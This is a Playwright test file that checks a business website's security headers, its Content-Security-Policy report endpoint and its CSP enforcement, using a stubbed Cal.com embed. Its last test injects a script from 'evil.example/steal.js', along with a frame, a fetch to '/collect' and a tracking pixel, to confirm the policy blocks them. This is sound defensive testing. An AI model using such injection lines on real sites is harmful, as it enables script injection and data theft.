import { expect, type Page, test } from '@playwright/test'
import { collectPageErrors } from './support/pageErrors'
import { clickOnceRevealed } from './support/reveal'

/**
 * The Content-Security-Policy and the other security headers, in the browser: every page,
 * every window and the calendar work under the policy with not one violation or console error,
 * and the policy really blocks what it does not list.
 */

const PAGES = ['/', '/about-us', '/privacy-policy', '/terms-conditions', '/cookie-policy']
const SERVICES = [
  'AI Voice Agents & Chatbots',
  'Business Process Automation with AI',
  'AI-Powered Website Development',
  'AI-Enhanced Mobile Applications',
  'Complete AI Digital Transformation',
]

type Violation = { page: string; directive: string; blocked: string; source: string; sample: string }

/**
 * Collects every violation any document of the page reports, from before its first script runs
 * and across navigations (each report is handed to the test as it happens).
 */
async function watchViolations(page: Page): Promise<Violation[]> {
  const violations: Violation[] = []
  await page.exposeFunction('__reportCspViolation', (violation: Violation) => violations.push(violation))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { __reportCspViolation: (v: Violation) => void }).__reportCspViolation
      report({
        page: event.documentURI,
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        source: `${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
        sample: event.sample,
      })
    })
  })
  return violations
}

/**
 * Cal.com at the network boundary: an embed.js that does what the real one does with the inline
 * instruction (frames app.cal.com/<link>/embed into the element), and that frame. Nothing leaves
 * this machine.
 */
async function stubCalCom(page: Page) {
  await page.route('https://app.cal.com/**', (route) => {
    const url = new URL(route.request().url())
    if (url.pathname === '/embed/embed.js') {
      return route.fulfill({
        contentType: 'text/javascript',
        body: `(() => {
          const namespaces = window.Cal && window.Cal.ns ? Object.values(window.Cal.ns) : []
          for (const ns of namespaces) for (const [action, options] of ns.q || []) {
            if (action !== 'inline') continue
            const frame = document.createElement('iframe')
            frame.title = 'Book a call'
            frame.src = 'https://app.cal.com/' + options.calLink + '/embed?embed=test2'
            options.elementOrSelector.appendChild(frame)
          }
          window.__calStubLoaded = true
        })()`,
      })
    }
    return route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Cal</title><p>Pick a time</p>' })
  })
}

const isMobile = (page: Page) => (page.viewportSize()?.width ?? 1280) < 1024

test.describe('security headers', () => {
  test.skip(({ isMobile }) => isMobile, 'headers do not depend on the viewport')

  test('every kind of route sends the policy, HSTS, nosniff, the referrer and permissions policies', async ({
    request,
  }) => {
    const home = await request.get('/')
    const html = await home.text()
    const script = html.match(/\/_next\/static\/[^"]+\.js/)?.[0]
    expect(script, 'a script of the build').toBeTruthy()
    const routes = [
      ...PAGES,
      '/no-such-page',
      '/robots.txt',
      '/sitemap.xml',
      '/icon.svg',
      '/favicon.ico',
      '/opengraph-image/card',
      '/about-us/opengraph-image/card',
      '/privacy-policy/opengraph-image/card',
      String(script),
    ]
    for (const route of routes) {
      const response = await request.get(route)
      expect(response.status(), route).toBe(route === '/no-such-page' ? 404 : 200)
      const headers = response.headers()
      expect(headers['content-security-policy'], route).toContain("frame-ancestors 'none'")
      expect(headers['content-security-policy'], route).toContain("default-src 'self'")
      expect(headers['strict-transport-security'], route).toBe('max-age=63072000; includeSubDomains')
      expect(headers['x-content-type-options'], route).toBe('nosniff')
      expect(headers['referrer-policy'], route).toBe('strict-origin-when-cross-origin')
      expect(headers['permissions-policy'], route).toContain('microphone=(self)')
      expect(headers['permissions-policy'], route).toContain('camera=()')
      expect(headers['permissions-policy'], route).toContain('geolocation=()')
    }
    // Route handlers too, whatever they answer.
    const report = await request.post('/api/csp-report', { data: 'not json' })
    expect(report.status()).toBe(400)
    expect(report.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  })

  test('the violation report endpoint takes both report formats, refuses junk and caps the body', async ({
    request,
  }) => {
    const legacy = {
      'csp-report': {
        'document-uri': 'http://x/',
        'blocked-uri': 'https://evil.example',
        'effective-directive': 'script-src-elem',
      },
    }
    const reportTo = [
      {
        type: 'csp-violation',
        body: { documentURL: 'http://x/', blockedURL: 'inline', effectiveDirective: 'script-src-elem' },
      },
    ]
    expect((await request.post('/api/csp-report', { data: legacy })).status()).toBe(204)
    expect((await request.post('/api/csp-report', { data: reportTo })).status()).toBe(204)
    expect((await request.post('/api/csp-report', { data: '{"csp-report":' })).status()).toBe(400)
    expect((await request.post('/api/csp-report', { data: { hello: 'world' } })).status()).toBe(400)
    const huge = { 'csp-report': { 'document-uri': 'x'.repeat(64 * 1024) } }
    expect((await request.post('/api/csp-report', { data: huge })).status()).toBe(413)
  })

  test('pages stay static: the policy has no nonce, so the CDN may cache every page', async ({ request }) => {
    for (const route of PAGES) {
      const response = await request.get(route)
      expect(response.headers()['content-security-policy'], route).not.toContain('nonce-')
      expect(response.headers()['x-nextjs-prerender'] ?? response.headers()['x-nextjs-cache'], route).toBeTruthy()
    }
  })
})

test.describe('the site under its Content-Security-Policy', () => {
  test('every page loads with no violation and no console error', async ({ page }) => {
    const violations = await watchViolations(page)
    const errors = collectPageErrors(page)
    for (const path of PAGES) {
      await page.goto(path)
      await page.waitForLoadState('networkidle')
    }
    // The 404 page: its status is an expected "error", its content must not be.
    const response = await page.goto('/no-such-page')
    expect(response?.status()).toBe(404)
    await expect(page.getByRole('heading', { name: 'Unexpected Application Error!' })).toBeVisible()
    expect(violations).toEqual([])
    expect(errors.filter((error) => !/status of 404/.test(error))).toEqual([])
  })

  test('every window, the cookie banner and the calendar open with no violation and no console error', async ({
    page,
  }) => {
    const violations = await watchViolations(page)
    const errors = collectPageErrors(page)
    await stubCalCom(page)
    await page.goto('/')

    for (const title of SERVICES) {
      await clickOnceRevealed(page.getByRole('button', { name: `Learn More: ${title}` }))
      const dialog = page.getByRole('dialog', { name: title })
      await expect(dialog).toBeVisible()
      await dialog.getByRole('button', { name: 'Close' }).click()
      await expect(dialog).toBeHidden()
    }

    if (isMobile(page)) {
      await page.getByRole('button', { name: 'Open menu' }).click()
      const menu = page.getByRole('dialog', { name: /menu/ })
      await expect(menu).toBeVisible()
      await menu.getByRole('button', { name: 'Try AI Demo' }).click()
    } else {
      await page.getByRole('banner').getByRole('button', { name: 'AI Demo', exact: true }).click()
    }
    const voice = page.getByRole('dialog', { name: /AI Voice Agent$/ })
    await expect(voice).toBeVisible()
    await voice.getByRole('button', { name: 'Close' }).click()
    await expect(voice).toBeHidden()

    await page.getByRole('button', { name: 'Select Date & Time' }).click()
    await expect(page.getByRole('button', { name: 'Calendar Opened - Choose Your Time' })).toBeVisible()
    // The embed ran and its frame from app.cal.com rendered inside the page.
    await expect(page.frameLocator('iframe[title="Book a call"]').getByText('Pick a time')).toBeVisible()
    await expect(page.getByRole('region', { name: 'Cookie consent' })).toBeVisible()

    expect(violations).toEqual([])
    expect(errors).toEqual([])
  })

  test('the policy is enforced: a script, a frame or a request to any other origin is blocked and reported', async ({
    page,
  }) => {
    const violations = await watchViolations(page)
    await page.goto('/about-us')
    await page.evaluate(() => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/steal.js'
      document.head.appendChild(script)
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/frame'
      document.body.appendChild(frame)
      void fetch('https://evil.example/collect').catch(() => undefined)
      const image = new Image()
      image.src = 'https://evil.example/pixel.gif'
    })
    await expect
      .poll(() => violations.map((v) => v.directive).sort())
      .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-elem'])
  })
})
